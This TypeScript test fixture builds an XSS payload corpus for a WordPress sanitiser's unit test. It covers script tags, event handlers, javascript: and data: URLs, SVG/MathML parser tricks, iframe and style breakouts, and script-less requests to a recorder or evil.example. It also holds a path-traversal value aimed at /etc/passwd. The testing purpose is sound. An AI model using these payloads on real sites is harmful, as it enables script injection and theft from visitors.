/**
 * The XSS corpus the poisoned snapshot carries (poison-snapshot.ts) and the sanitiser's unit test runs
 * (lib/wordpress/sanitize.test.ts). Every payload, if it ran, would do something observable:
 * - `signal(tag)` adds the tag to `window.__pwned`, opens an alert and fetches the recorder;
 * - the script-less ones (meta refresh, forms, base, object…) would make a request to the recorder.
 * Tags name the payload and where it was put (`X07@content@249`), so a failure says which field let it in.
 */

/** JavaScript a payload runs: three independent signals (a global, a dialog, a request). */
export function signal(tag: string, recorder: string): string {
  return `window.__pwned=(window.__pwned||[]).concat('${tag}');alert('${tag}');fetch('${recorder}/js/${tag}')`;
}

type Make = (tag: string, recorder: string) => string;

const js = signal;
const b64 = (text: string) => btoa(text); // the payloads are ASCII
/** Every character as a decimal entity: what a filter that forgets to decode lets through. */
const entities = (text: string) => [...text].map((char) => `&#${char.codePointAt(0)};`).join('');

/** HTML payloads: post content, excerpts, media descriptions and captions. */
export const HTML_PAYLOADS: { id: string; family: string; make: Make }[] = [
  // Script tags
  { id: 'X01', family: 'script', make: (t, r) => `<script>${js(t, r)}</script>` },
  { id: 'X02', family: 'script', make: (t, r) => `<SCRIPT SRC="${r}/script/${t}.js"></SCRIPT>` },
  { id: 'X03', family: 'script', make: (t, r) => `<scr<script>ipt>${js(t, r)}</scr</script>ipt>` },
  { id: 'X04', family: 'script', make: (t, r) => `<script type="module">${js(t, r)}</script>` },
  // Event handlers
  { id: 'X05', family: 'on*', make: (t, r) => `<img src="x" onerror="${js(t, r)}">` },
  { id: 'X06', family: 'on*', make: (t, r) => `<img src=x onerror=${js(t, r)}>` },
  { id: 'X07', family: 'on*', make: (t, r) => `<body onload="${js(t, r)}">` },
  {
    id: 'X08',
    family: 'on*',
    make: (t, r) => `<p onmouseover="${js(t, r)}" style="position:fixed;inset:0">hover</p>`,
  },
  { id: 'X09', family: 'on*', make: (t, r) => `<input autofocus onfocus="${js(t, r)}">` },
  {
    id: 'X10',
    family: 'on*',
    make: (t, r) => `<details open ontoggle="${js(t, r)}"><summary>s</summary></details>`,
  },
  {
    id: 'X11',
    family: 'on*',
    make: (t, r) =>
      `<video><source onerror="${js(t, r)}"></video><audio src="x" onerror="${js(t, r)}"></audio>`,
  },
  {
    id: 'X12',
    family: 'on*',
    make: (t, r) => `<a href="/es" onclick="${js(t, r)}" onfocus="${js(t, r)}">internal</a>`,
  },
  {
    id: 'X13',
    family: 'on*',
    make: (t, r) => `<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;&#40;'${t}'&#41;;${js(t, r)}">`,
  },
  // javascript: and data: URLs
  { id: 'X14', family: 'javascript:', make: (t, r) => `<a href="javascript:${js(t, r)}">js link</a>` },
  { id: 'X15', family: 'javascript:', make: (t, r) => `<a href="JaVaScRiPt:${js(t, r)}">js link</a>` },
  { id: 'X16', family: 'javascript:', make: (t, r) => `<a href="jav&#x09;ascript:${js(t, r)}">js link</a>` },
  {
    id: 'X17',
    family: 'javascript:',
    make: (t, r) => `<a href="${entities('javascript:')}${js(t, r)}">js link</a>`,
  },
  { id: 'X18', family: 'javascript:', make: (t, r) => `<a href=" &#14;javascript:${js(t, r)}">js link</a>` },
  {
    id: 'X19',
    family: 'javascript:',
    make: (t, r) => `<a href="&#0000106avascript:${js(t, r)}">js link</a>`,
  },
  {
    id: 'X20',
    family: 'data:',
    make: (t, r) => `<a href="data:text/html;base64,${b64(`<script>${js(t, r)}</script>`)}">data link</a>`,
  },
  {
    id: 'X21',
    family: 'data:',
    make: (t, r) =>
      `<img src="data:image/svg+xml;base64,${b64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${js(t, r)}"/>`)}" width="10" height="10">`,
  },
  {
    id: 'X22',
    family: 'data:',
    make: (t, r) => `<iframe src="data:text/html,<script>${js(t, r)}</script>"></iframe>`,
  },
  // SVG and MathML
  { id: 'X23', family: 'svg', make: (t, r) => `<svg onload="${js(t, r)}"><circle r="10"/></svg>` },
  { id: 'X24', family: 'svg', make: (t, r) => `<svg><script>${js(t, r)}</script></svg>` },
  {
    id: 'X25',
    family: 'svg',
    make: (t, r) => `<svg><animate onbegin="${js(t, r)}" attributeName="x" dur="1s"/></svg>`,
  },
  {
    id: 'X26',
    family: 'svg',
    make: (t, r) => `<svg><a xlink:href="javascript:${js(t, r)}"><text y="20">svg link</text></a></svg>`,
  },
  {
    id: 'X27',
    family: 'svg',
    make: (t, r) =>
      `<svg><use href="data:image/svg+xml;base64,${b64(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="x" onerror="${js(t, r)}"/></svg>`)}#x"/></svg>`,
  },
  {
    id: 'X28',
    family: 'svg',
    make: (t, r) =>
      `<math><mtext><table><mglyph><style><img src=x onerror="${js(t, r)}"></style></mglyph></table></mtext></math>`,
  },
  {
    id: 'X29',
    family: 'svg',
    make: (t, r) => `<svg></p><style><a id="</style><img src=1 onerror=${js(t, r)}>">`,
  },
  // Frames from other hosts
  {
    id: 'X30',
    family: 'iframe',
    make: (_t, r) => `<iframe src="https://evil.example/frame"></iframe><iframe src="${r}/frame/x"></iframe>`,
  },
  { id: 'X31', family: 'iframe', make: (t, r) => `<iframe srcdoc="<script>${js(t, r)}</script>"></iframe>` },
  { id: 'X32', family: 'iframe', make: (t, r) => `<iframe src="javascript:${js(t, r)}"></iframe>` },
  {
    id: 'X33',
    family: 'iframe',
    make: (t, r) =>
      `<iframe src="https://www.youtube-nocookie.com/embed/aaaaaaaaaaa" onload="${js(t, r)}"></iframe>`,
  },
  {
    id: 'X34',
    family: 'iframe',
    make: (t, r) => `<object data="${r}/object/${t}"></object><embed src="${r}/embed/${t}">`,
  },
  {
    id: 'X52',
    family: 'iframe',
    // An allowed host, but not its map: Google's redirector and its search.
    make: (t, r) =>
      `<iframe src="https://www.google.com/url?q=${r}/frame/${t}"></iframe><iframe src="https://maps.google.com/search?q=${t}"></iframe>`,
  },
  // Links that hand the other site our window (window.opener)
  {
    id: 'X53',
    family: 'opener',
    make: (t, r) =>
      `<a href="${r}/opener/${t}" target="_BLANK" rel="opener">${t} new tab</a> <a href="${r}/opener/${t}" target="plaza" rel="OPENER nofollow">${t} named window</a> <a href="${r}/opener/${t}" rel="opener">${t} same tab</a>`,
  },
  // <style> breakouts and CSS
  { id: 'X35', family: 'style', make: () => `<style>body,main,header{display:none!important}</style>` },
  { id: 'X36', family: 'style', make: (t, r) => `</style><script>${js(t, r)}</script>` },
  { id: 'X37', family: 'style', make: (t, r) => `<style></style><img src=x onerror="${js(t, r)}">` },
  {
    id: 'X38',
    family: 'style',
    make: (t, r) => `<div style="background:url('javascript:${js(t, r)}')">css url</div>`,
  },
  {
    id: 'X39',
    family: 'style',
    make: (t, r) => `<style>@import '${r}/css/${t}';</style><p style="background:url(${r}/bg/${t})">bg</p>`,
  },
  // Requests without script
  {
    id: 'X40',
    family: 'no-script',
    make: (t, r) => `<meta http-equiv="refresh" content="0;url=${r}/meta/${t}">`,
  },
  { id: 'X41', family: 'no-script', make: (t, r) => `<base href="${r}/base/${t}/">` },
  {
    id: 'X42',
    family: 'no-script',
    make: (t, r) =>
      `<link rel="stylesheet" href="${r}/link/${t}"><link rel="prefetch" href="${r}/prefetch/${t}">`,
  },
  {
    id: 'X43',
    family: 'no-script',
    make: (t, r) =>
      `<form action="${r}/form/${t}" method="post"><input name="q" value="1"><button formaction="javascript:${js(t, r)}">send</button></form>`,
  },
  { id: 'X44', family: 'no-script', make: (t, r) => `<img src="${r}/img/${t}" width="10" height="10">` },
  { id: 'X45', family: 'no-script', make: (t, r) => `<img src='${r}/dangle/${t}?` },
  // Entity-encoded and parser-confusion variants
  { id: 'X46', family: 'entities', make: (t, r) => `&lt;script&gt;${js(t, r)}&lt;/script&gt;` },
  { id: 'X47', family: 'entities', make: (t, r) => `&#60;img src=x onerror=${js(t, r)}&#62;` },
  { id: 'X48', family: 'entities', make: (t, r) => `<!--<img src="--><img src=x onerror="${js(t, r)}">` },
  {
    id: 'X49',
    family: 'entities',
    make: (t, r) => `<noscript><p title="</noscript><img src=x onerror=${js(t, r)}>"></noscript>`,
  },
  {
    id: 'X50',
    family: 'entities',
    make: (t, r) =>
      `<template><script>${js(t, r)}</script></template><textarea></textarea><script>${js(t, r)}</script>`,
  },
  {
    id: 'X51',
    family: 'entities',
    make: (t, r) => `<![CDATA[<script>${js(t, r)}</script>]]><title></title><script>${js(t, r)}</script>`,
  },
];

/** Plain-text fields (titles, alt texts, ACF text): shown as text, in <title>, JSON-LD, the search index. */
export const TEXT_PAYLOADS: { id: string; make: Make }[] = [
  { id: 'T01', make: (t, r) => `<script>${js(t, r)}</script>` },
  { id: 'T02', make: (t, r) => `"><img src=x onerror="${js(t, r)}">` },
  { id: 'T03', make: (t, r) => `'><svg onload=${js(t, r)}>` },
  { id: 'T04', make: (t, r) => `&lt;script&gt;${js(t, r)}&lt;/script&gt;` },
  { id: 'T05', make: (t, r) => `</title><script>${js(t, r)}</script>` },
  { id: 'T06', make: (t, r) => `</script><script>${js(t, r)}</script>` },
  { id: 'T07', make: (t, r) => `{{constructor.constructor("${js(t, r)}")()}} \${alert('${t}')}` },
  { id: 'T08', make: (t, r) => `\u2028\u2029<!--<script>${js(t, r)}</script>` },
];

/** URL fields: image sources, ACF links (Instagram, Facebook, web site, video). */
export const URL_PAYLOADS: { id: string; make: Make }[] = [
  { id: 'U01', make: (t, r) => `javascript:${js(t, r)}` },
  { id: 'U02', make: (t, r) => ` JAVASCRIPT:${js(t, r)}` },
  { id: 'U03', make: (t, r) => `data:text/html,<script>${js(t, r)}</script>` },
  {
    id: 'U04',
    make: (t, r) => `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${js(t, r)}"/>`,
  },
  { id: 'U05', make: (t, r) => `https://evil.example/x.png" onerror="${js(t, r)}` },
  { id: 'U06', make: (t, r) => `${r}/url/${t}.png` },
  { id: 'U07', make: (t) => `//evil.example/${t}.png` },
  { id: 'U08', make: (t) => `/wp-content/uploads/../../../../etc/passwd?${t}` },
  { id: 'U09', make: (t, r) => `vbscript:${js(t, r)}` },
];
